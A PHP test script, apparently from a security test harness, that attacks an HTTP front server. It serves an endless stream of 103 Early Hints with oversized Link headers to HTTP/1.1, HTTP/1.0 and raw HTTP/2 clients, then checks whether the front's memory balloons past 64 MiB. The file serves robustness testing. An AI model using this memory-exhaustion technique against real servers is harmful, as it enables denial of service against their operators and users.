<?php
/*
 * Sends interim responses without end.
 *
 * Attacker: a script sends 103 again and again and never its answer, to clients that read as fast
 *   as they can, that know no interim responses (HTTP/1.0), and that read nothing (HTTP/2).
 * Must not happen: a thread of the front does nothing but send them; the front keeps them in
 *   memory.
 * Checked: site B's answers; the front is the same process; its memory while the clients wait.
 */
if (PHP_SAPI === 'cli') {
    attack(...array_slice($argv, 1));
    exit;
}
require __DIR__ . '/attack.php';

header('Link: </' . str_repeat('x', 4000) . '>; rel=preload');
for (;;) {
    headers_send(103);
}

function attack(string $address, string $seconds, string $loot): void
{
    $report = fn ($line) => file_put_contents("$loot/report", "$line\n", FILE_APPEND);
    $front = json_decode(file_get_contents("$loot/scene.json"))->front;
    $before = memory($front);
    $target = '/endless-heads.php';
    $clients = [];
    foreach (["GET $target HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "GET $target HTTP/1.0\r\nHost: a.example\r\n\r\n",
        http2($target)] as $number => $request) {
        $report("tried: endless heads for client $number");
        $clients[] = $client = stream_socket_client("tcp://$address");
        stream_set_blocking($client, false);
        fwrite($client, $request);
    }
    for ($until = microtime(true) + $seconds; microtime(true) < $until;) {
        for ($turn = 0; $turn < 50; $turn++) {
            fread($clients[0], 1 << 20);
        }
        if (memory($front) > $before + (64 << 20)) {
            $report('won: the front keeps more than 64 MiB of heads');
            return;
        }
    }
}

/**
 * The bytes of an HTTP/2 client that asks for one page with prior knowledge, and lets the server
 * send at once.
 */
function http2(string $target): string
{
    $frame = fn (int $kind, int $flags, int $stream, string $content) =>
        substr(pack('N', strlen($content)), 1) . chr($kind) . chr($flags) . pack('N', $stream)
            . $content;
    $text = fn (string $text) => chr(strlen($text)) . $text;
    // Indexed: GET, http. Literal: the path and the authority.
    $head = "\x82\x86\x04" . $text($target) . "\x01" . $text('a.example');
    return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" . $frame(4, 0, 0, '') . $frame(1, 5, 1, $head);
}

/** Bytes of memory that a process has. */
function memory(int $process): int
{
    preg_match('/VmRSS:\s+(\d+)/', (string) @file_get_contents("/proc/$process/status"), $part);
    return 1024 * (int) ($part[1] ?? 0);
}
